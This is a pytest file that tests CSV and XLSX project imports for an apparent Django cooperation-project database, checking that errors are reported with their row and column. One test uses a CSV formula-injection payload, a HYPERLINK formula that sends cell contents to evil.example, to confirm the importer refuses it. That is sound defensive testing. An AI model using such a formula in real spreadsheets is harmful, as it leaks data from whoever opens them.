"""CSV and XLSX imports: the template's columns, row and column in every message."""

import csv
import io

import pytest
from openpyxl import Workbook

from coopdev.interchange.columns import COLUMN_NAMES
from coopdev.interchange.services import import_file
from coopdev.projects.models import Project

from .conftest import db_snapshot

pytestmark = pytest.mark.django_db

ROW = {
    "iati_identifier": "XM-TEST-ORG-C1",
    "reporting_org_ref": "XM-TEST-ORG",
    "reporting_org_name": "Test cooperative",
    "title": "Coffee cooperatives in Huila",
    "title@es": "Cooperativas de café en Huila",
    "description": "Processing and marketing.",
    "activity_status": "2",
    "planned_start": "2024-01-01",
    "total_value": "200000",
    "managed_value": "150000",
    "people_reached": "900",
    "countries": "CO:70;PE:30",
    "sectors": "31163:100",
    "sdg_goals": "8;2",
    "participating_orgs": "1|XM-DAC-6-4|10|Italian agency;4|XM-TEST-ORG|22|Test cooperative",
    "budgets": "2024-01-01/2024-12-31:100000",
    "transactions": "2:2024-01-10:200000;3:2024-02-01:50000:USD",
}


def write_csv(tmp_path, *rows: dict, name="projects.csv", encoding="utf-8"):
    columns = list(COLUMN_NAMES) + ["title@es"]
    text = io.StringIO()
    writer = csv.DictWriter(text, fieldnames=columns)
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    path = tmp_path / name
    path.write_bytes(text.getvalue().encode(encoding))
    return path


def test_a_csv_row_becomes_a_project(tmp_path):
    report = import_file(path=write_csv(tmp_path, ROW))

    assert report.ok and report.format == "csv", [str(e) for e in report.errors]
    project = Project.objects.get(iati_identifier="XM-TEST-ORG-C1")
    assert project.title == {"en": "Coffee cooperatives in Huila", "es": "Cooperativas de café en Huila"}
    assert sorted(project.countries.values_list("country_id", flat=True)) == ["CO", "PE"]
    assert set(project.sdg_goals.values_list("number", flat=True)) == {2, 8}
    assert project.participating_orgs.count() == 2
    assert project.transactions.get(type="3").currency == "USD"
    assert project.budgets.get().value == 100000


def test_the_format_is_found_from_the_content_not_the_name(tmp_path):
    report = import_file(path=write_csv(tmp_path, ROW, name="activities.xml"))
    assert report.format == "csv" and report.ok


def test_csv_errors_name_the_row_and_the_column(tmp_path):
    bad = dict(ROW, iati_identifier="XM-TEST-ORG-C2", countries="CO:70;PE:20", planned_start="01/02/2024")
    before = db_snapshot()

    report = import_file(path=write_csv(tmp_path, ROW, bad))

    assert not report.written
    where = {(e.row, e.column) for e in report.errors}
    assert (3, "countries") in where and (3, "planned_start") in where
    assert db_snapshot() == before


def test_a_cell_that_would_run_as_a_formula_is_refused(tmp_path):
    hostile = dict(ROW, title='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    before = db_snapshot()

    report = import_file(path=write_csv(tmp_path, hostile))

    assert not report.written
    assert report.errors[0].column == "title" and "formula" in report.errors[0].message
    assert db_snapshot() == before


def test_an_escaped_formula_character_and_negative_numbers_are_plain_values(tmp_path):
    report = import_file(path=write_csv(tmp_path, dict(ROW, title="'=Equal rights for women")))
    assert report.ok
    assert Project.objects.get().title["en"] == "=Equal rights for women"


def test_a_csv_that_is_not_utf8_is_refused_with_its_row(tmp_path):
    path = write_csv(tmp_path, ROW, dict(ROW, iati_identifier="XM-TEST-ORG-C3"), encoding="latin-1")
    before = db_snapshot()
    report = import_file(path=path)
    assert not report.written and report.errors[0].row == 2 and "UTF-8" in report.errors[0].message
    assert db_snapshot() == before


def test_a_csv_without_the_required_columns_is_refused(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text("name,amount\nfoo,1\n")
    report = import_file(path=path)
    assert not report.written and "iati_identifier" in report.errors[0].message


def test_an_xlsx_sheet_imports_like_the_csv(tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "projects"
    columns = list(ROW)
    sheet.append(columns)
    sheet.append([ROW[c] for c in columns])
    sheet.append([ROW[c] if c != "iati_identifier" else "XM-TEST-ORG-C9" for c in columns])
    path = tmp_path / "projects.xlsx"
    workbook.save(path)

    report = import_file(path=path)

    assert report.format == "xlsx" and report.ok, [str(e) for e in report.errors]
    assert report.created == 2
    assert Project.objects.get(iati_identifier="XM-TEST-ORG-C9").total_value == 200000


def test_xlsx_errors_name_the_row_and_the_column(tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(ROW))
    sheet.append([ROW[c] if c != "activity_status" else "9" for c in ROW])
    path = tmp_path / "bad.xlsx"
    workbook.save(path)
    report = import_file(path=path)
    assert not report.written
    assert (report.errors[0].row, report.errors[0].column) == (2, "activity_status")


def test_an_identifier_without_its_organisations_prefix_is_a_warning_with_row_and_column(tmp_path):
    path = write_csv(tmp_path, ROW, {**ROW, "iati_identifier": "C2"})
    report = import_file(path=path)
    assert report.ok and report.created == 2
    [warning] = report.warnings
    assert (warning.row, warning.column, warning.element, warning.kind) == (
        3,
        "iati_identifier",
        "",
        "warning",
    )
